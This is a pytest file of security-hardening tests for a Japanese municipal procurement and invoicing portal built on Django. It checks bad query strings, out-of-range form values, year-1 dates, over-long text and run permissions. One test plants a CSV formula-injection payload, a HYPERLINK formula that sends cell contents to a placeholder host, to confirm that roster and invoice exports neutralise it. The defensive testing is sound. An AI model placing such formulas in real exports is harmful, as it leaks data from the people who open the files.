"""Each case the hardening review found, as it was seen: bad input that reached a server error,
a request that half-saved, "0" read as "every year", formulas in CSV files, dates in year 1,
unbounded text, the national run open to any secretariat. Each now gets a clear refusal (a
form error or a JSON error with a code) and leaves the data as it was."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django_tenants.utils import schema_context

from apps.accounts.models import User
from apps.approvals.models import ApplicationReview
from apps.catalog.models import FeeSchedule
from apps.contracts.models import Application
from apps.groups.models import JointServiceYear
from apps.invoicing.models import Invoice, InvoiceRun, Payment
from apps.training.models import Programme, Seat, Session
from tests.clock import FY, TODAY, fy_month
from tests.conftest import band_fields
from tests.contracts.test_contract_path import (
    _json,
    published_listing,  # noqa: F401 (a fixture)
)
from tests.invoicing.conftest import billing  # noqa: F401 (a fixture)
from tests.invoicing.test_pages import issued  # noqa: F401 (a fixture)
from tests.training.factories import session_for

pytestmark = pytest.mark.django_db

NUL = "\x00"
SUPERSCRIPT_TWO = "²"
HUGE = "9" * 5000


# --- server errors on bad query strings -------------------------------------------------------


@pytest.mark.parametrize(
    ("who", "path", "params"),
    [
        ((None, None), "/catalog/", {"q": NUL}),
        ((None, None), "/api/v1/listings/", {"q": NUL}),
        ((None, None), "/api/v1/listings/", {"category": NUL}),
        ((None, "aichi_secretariat"), "/invoices/", {"status": NUL}),
        ((None, "aichi_secretariat"), "/api/v1/invoices/", {"recipient": NUL}),
        ((None, "aichi_secretariat"), "/invoices/export.csv", {"kind": NUL}),
        (("ichinomiya", "ichinomiya_staff"), "/applications/", {"status": NUL}),
        (("ichinomiya", "ichinomiya_staff"), "/api/v1/applications/", {"status": NUL}),
        (("ichinomiya", "ichinomiya_staff"), "/contracts/", {"status": NUL}),
        ((None, "aichi_secretariat"), "/training/roster.csv", {"body": NUL}),
        ((None, "aichi_secretariat"), "/training/roster.csv", {"session": SUPERSCRIPT_TWO}),
        (("ichinomiya", "ichinomiya_staff"), "/catalog/compare/", {"ids": SUPERSCRIPT_TWO}),
        (("ichinomiya", "ichinomiya_staff"), "/api/v1/listings/compare/", {"ids": HUGE}),
        ((None, "aichi_secretariat"), "/invoices/", {"fiscal_year": SUPERSCRIPT_TWO}),
        ((None, "aichi_secretariat"), "/api/v1/invoices/", {"fiscal_year": HUGE}),
        ((None, "aichi_secretariat"), "/api/v1/invoices/", {"fiscal_year": "0"}),
        ((None, "vendor_a"), "/api/v1/training/seats/", {"session": SUPERSCRIPT_TWO}),
        ((None, "aichi_secretariat"), "/invoicing/runs/", {"fiscal_year": "abc"}),
    ],
)
def test_a_bad_filter_is_a_400_not_a_server_error(portal, site_client, who, path, params) -> None:
    client = site_client(*who) if who[1] else Client(HTTP_HOST="localhost")
    client.raise_request_exception = False
    response = client.get(path, params)
    assert response.status_code == 400, (path, params)
    if path.startswith("/api/"):
        error = response.json()["error"]
        assert error["code"] in {"invalid_filter", "invalid_compare"}
        assert set(error["fields"]) == set(params)


def test_page_size_and_offset_are_clipped_not_passed_to_the_database(portal, site_client) -> None:
    client = site_client(None, "aichi_secretariat")
    response = client.get("/api/v1/invoices/", {"limit": HUGE, "offset": HUGE})
    assert response.status_code == 200
    response = client.get("/api/v1/invoices/", {"limit": "100000", "offset": str(10**30)})
    assert (response.status_code, response.json()["results"]) == (200, [])


def test_the_quote_and_listing_pages_take_only_sensible_years(
    portal,
    site_client,
    published_listing,  # noqa: F811
) -> None:
    _, listing_id, _ = published_listing
    staff = site_client("ichinomiya", "ichinomiya_staff")
    for bad in (SUPERSCRIPT_TWO, HUGE, "-5", "99999"):
        code, error = _json(staff, "get", f"/api/v1/listings/{listing_id}/quote/?fiscal_year={bad}")
        assert code == 400, bad
        assert error["error"]["code"] in {"invalid_fiscal_year", "unknown_fiscal_year"}
        # the page shows this year's quote instead
        page = staff.get(f"/catalog/{listing_id}/", {"fiscal_year": bad})
        assert (page.status_code, page.context["fiscal_year"]) == (200, FY)


def test_an_id_that_is_not_one_is_a_404(portal, site_client) -> None:
    client = site_client(None, "aichi_secretariat")
    client.raise_request_exception = False
    for path in (f"/invoices/{HUGE}/", "/invoices/0/", f"/api/v1/invoices/{2**31}/"):
        assert client.get(path).status_code == 404, path
    assert client.get("/api/v1/no-such-thing/").json()["error"]["code"] == "not_found"
    assert client.get(f"/api/v1/bodies/23203{NUL}/").status_code == 404


# --- server errors on bad form posts ------------------------------------------------------------


def test_training_forms_refuse_bad_numbers_and_keep_what_was_typed(portal, site_client) -> None:
    secretariat = site_client(None, "aichi_secretariat")
    before = (Programme.objects.count(), Session.objects.count())
    typed = {
        "group_id": str(portal.groups["council"].pk),
        "fiscal_year": "99999",
        "title": "セキュリティ研修",
        "kind": "security",
        "eligible_role": "any",
        "delivery": "in_person",
        "per_body_cap": "70000",
    }
    page = secretariat.post("/training/programmes/", typed)
    assert page.status_code == 400
    form = page.context["programme_form"]
    assert set(form.errors) == {"fiscal_year", "per_body_cap"}
    assert form["title"].value() == "セキュリティ研修"  # kept
    html = page.content.decode()
    assert 'class="error-summary"' in html
    assert 'href="#id_fiscal_year"' in html
    assert 'value="セキュリティ研修"' in html
    for fy in ("-5", "abc", SUPERSCRIPT_TWO):
        response = secretariat.post("/training/programmes/", {**typed, "fiscal_year": fy})
        assert response.status_code == 400
    assert (Programme.objects.count(), Session.objects.count()) == before
    programme = Programme.objects.create(
        group=portal.groups["council"], fiscal_year=FY, title="x", kind="security"
    )
    session = secretariat.post(
        "/training/sessions/",
        {"programme_id": programme.pk, "capacity": "1e10", "starts_at": "abc", "venue": NUL},
    )
    assert session.status_code == 400
    assert {"capacity", "starts_at", "venue"} <= set(session.context["session_form"].errors)
    assert Session.objects.count() == before[1]
    staff = site_client("ichinomiya", "ichinomiya_staff")
    assert staff.post("/training/apply/", {"session_id": "abc"}).status_code == 302
    assert staff.post("/training/apply/", {}).status_code == 302  # a message, not a crash
    assert Seat.objects.count() == 0
    # the outside experts form: a cost past the column, a date in year 1
    admin = site_client("ichinomiya", "ichinomiya_admin")
    page = admin.post(
        "/advisers/",
        {"role": "CIO補佐監", "starts_on": "0001-01-01", "ends_on": "2x", "cost_yen": "1e19"},
    )
    assert page.status_code == 400
    assert set(page.context["form"].errors) == {"starts_on", "ends_on", "cost_yen"}


def test_the_joint_service_form_refuses_nan_and_keeps_every_row(portal, site_client) -> None:
    secretariat = site_client(None, "aichi_secretariat")
    _, service = _json(
        secretariat,
        "post",
        "/api/v1/joint-services/",
        {"group_id": portal.groups["council"].pk, "name": "電子申請"},
    )
    typed = {
        "fiscal_year": str(FY),
        "total_cost_yen": "1,000,000",
        "method": "population",
        "equal_part": "NaN",
        "doubling_factor": "Infinity",
        "population_source": "census-2020",
        "participant": ["230006", "232033"],
        "joined_232033": f"{FY}年10月",
        "left_232033": f"{FY}-13",
        "usage_232033": "12",
    }
    page = secretariat.post(f"/joint-services/{service['id']}/year/", typed)
    assert page.status_code == 400
    form = page.context["form"]
    assert set(form.errors) == {"equal_part", "doubling_factor", "left_232033"}
    rows = {r["code"]: r for r in form.rows()}
    assert (rows["232033"]["checked"], rows["232017"]["checked"]) == (True, False)
    html = page.content.decode()
    for kept in (f'value="{FY}年10月"', 'value="12"', 'value="NaN"', f'value="{FY}-13"'):
        assert kept in html
    assert JointServiceYear.objects.count() == 0
    # 2026年10月 is a month as much as 2026-10
    ok = secretariat.post(
        f"/joint-services/{service['id']}/year/",
        {**typed, "equal_part": "0.2", "doubling_factor": "1.5", "left_232033": ""},
    )
    assert ok.status_code == 302
    year = JointServiceYear.objects.get()
    assert year.participations.get(body__code="232033").joined_month == fy_month(10)


def test_the_fee_schedule_form_refuses_numbers_past_the_columns(portal, site_client) -> None:
    vendor = site_client(None, "vendor_a")
    _, listing = _json(
        vendor,
        "post",
        "/api/v1/vendor/listings/",
        {"name": "帳票AI", "summary": "x", "category": "ai_ocr", "pattern": "B"},
    )
    base = {"fiscal_year": FY, "initial_fee_yen": 0, "tax_category": "standard_10"}
    page = vendor.post(
        f"/vendor/listings/{listing['id']}/schedules/",
        {**base, "kind": "weighted", "base_fee_yen": "1e20", "doubling_factor": "NaN"},
    )
    assert page.status_code == 400
    assert {"base_fee_yen", "doubling_factor"} <= set(page.context["schedule_form"].errors)
    page = vendor.post(
        f"/vendor/listings/{listing['id']}/schedules/",
        {**base, "kind": "bands", **band_fields("0 3000000000 100\n3000000000 - 200")},
    )
    assert page.status_code == 400
    assert {"band_1_upper", "band_2_lower"} <= set(page.context["schedule_form"].errors)
    code, error = _json(
        vendor,
        "put",
        f"/api/v1/vendor/listings/{listing['id']}/fee-schedules/",
        {**base, "kind": "weighted", "base_fee_yen": 10**20},
    )
    assert (code, list(error["error"]["fields"])) == (400, ["base_fee_yen"])
    assert FeeSchedule.objects.count() == 0


# --- "0" is not "every year" ----------------------------------------------------------------


def test_issue_all_needs_a_real_fiscal_year(portal, site_client, billing) -> None:  # noqa: F811
    from apps.invoicing.services.run import invoice_run_inline

    invoice_run_inline(fiscal_year=FY)
    secretariat = site_client(None, "aichi_secretariat")
    code, error = _json(secretariat, "post", "/api/v1/invoices/issue-all/", {"fiscal_year": 0})
    assert (code, list(error["error"]["fields"])) == (400, ["fiscal_year"])
    page = secretariat.post("/invoices/issue-all/", {"fiscal_year": "0"})
    assert page.status_code == 400
    assert not Invoice.objects.filter(status="issued").exists()


# --- CSV files that a spreadsheet would run -------------------------------------------------


def test_roster_csv_cells_that_look_like_formulas_are_neutralised(portal, site_client) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"クリック")'
    with schema_context("ichinomiya"):
        staff = User.objects.create_user(
            "evil", "pw-pw-pw-pw", full_name=formula, role="body_staff"
        )
    session = session_for(portal.groups["council"], title="-2+3")
    Seat.objects.create(
        session=session,
        body=portal.bodies["ichinomiya"],
        staff_id=staff.pk,
        participant_name=formula,
        status="confirmed",
    )
    response = site_client(None, "aichi_secretariat").get("/training/roster.csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # UTF-8 with BOM: Excel reads Japanese
    rows = list(csv.reader(io.StringIO(raw.decode().lstrip("\ufeff"))))
    assert rows[1][4] == "'" + formula
    assert rows[1][1] == "'-2+3"


def test_the_invoice_csv_neutralises_formulas_too(portal, site_client, billing) -> None:  # noqa: F811
    from apps.invoicing.services.run import invoice_run_inline
    from apps.vendors.models import Vendor

    Vendor.objects.filter(pk=portal.vendors["a"].pk).update(name="@SUM(1+1)")
    invoice_run_inline(fiscal_year=FY)
    text = b"".join(
        site_client(None, "vendor_a").get("/invoices/export.csv").streaming_content
    ).decode()
    assert "'@SUM(1+1)" in text
    assert ",@SUM" not in text


# --- dates in year 1 and text without end ------------------------------------------------------


def test_a_payment_in_year_one_or_before_the_invoice_is_refused(
    portal,
    site_client,
    issued,  # noqa: F811
) -> None:
    invoice = issued["232033:burden"]
    client = site_client(None, "aichi_secretariat")
    code, error = _json(
        client,
        "post",
        f"/api/v1/invoices/{invoice.pk}/payments/",
        {"amount_yen": 1, "paid_on": "0001-01-01"},
    )
    assert (code, list(error["error"]["fields"])) == (400, ["paid_on"])
    page = client.post(
        f"/invoices/{invoice.pk}/payments/", {"amount_yen": "1", "paid_on": "0001-01-01"}
    )
    assert page.status_code == 400
    long_ago = (TODAY - dt.timedelta(days=200)).isoformat()
    code, error = _json(
        client,
        "post",
        f"/api/v1/invoices/{invoice.pk}/payments/",
        {"amount_yen": 1, "paid_on": long_ago},
    )
    assert (code, error["error"]["code"]) == (400, "payment_date_before_issue")
    assert "発行日" in error["error"]["fields"]["paid_on"][0]
    assert Payment.objects.count() == 0


def test_free_text_has_a_maximum_length(
    portal,
    site_client,
    published_listing,  # noqa: F811
) -> None:
    _, listing_id, _ = published_listing
    staff = site_client("ichinomiya", "ichinomiya_staff")
    _, application = _json(
        staff,
        "post",
        "/api/v1/applications/",
        {
            "listing_id": listing_id,
            "plan": "標準",
            "start_month": TODAY.replace(day=1).isoformat(),
            "fiscal_years": [FY],
        },
    )
    admin = site_client("ichinomiya", "ichinomiya_admin")
    two_megabytes = "あ" * (2 * 1024 * 1024 // 3)
    code, _ = _json(
        admin,
        "post",
        f"/api/v1/applications/{application['id']}/reviews/",
        {"kind": "comment", "comment": two_megabytes},
    )
    assert code == 400  # past the request size Django reads at all
    code, error = _json(
        admin,
        "post",
        f"/api/v1/applications/{application['id']}/reviews/",
        {"kind": "comment", "comment": "あ" * 2001},
    )
    assert (code, list(error["error"]["fields"])) == (400, ["comment"])
    page = admin.post(f"/applications/{application['id']}/comment/", {"comment": "あ" * 2001})
    assert page.status_code == 400
    page = admin.post(f"/applications/{application['id']}/comment/", {"comment": f"a{NUL}b"})
    assert page.status_code == 400
    with schema_context("ichinomiya"):
        assert ApplicationReview.objects.count() == 0
    assert Application.objects.count() == 1


# --- who may start the run ------------------------------------------------------------------


def test_a_secretariat_runs_its_own_councils_only(portal, site_client, billing) -> None:  # noqa: F811
    council = portal.groups["council"]
    ours = site_client(None, "aichi_secretariat")
    code, _ = _json(ours, "post", f"/api/v1/invoice-runs/{FY}/")
    assert code == 403  # the national run (every council and every vendor) is the operator's
    other = site_client(None, "hokkaido_secretariat")
    code, _ = _json(other, "post", f"/api/v1/groups/{council.pk}/invoice-runs/{FY}/")
    assert code == 404
    assert InvoiceRun.objects.count() == 0
    page = ours.get("/invoicing/runs/")
    assert [g for g, _ in page.context["groups"]] == [council.pk]  # no national run offered
    operator = site_client(None, "operator").get("/invoicing/runs/")
    assert operator.context["groups"][0] == (0, "全国の一括処理 (すべての協議会と事業者)")
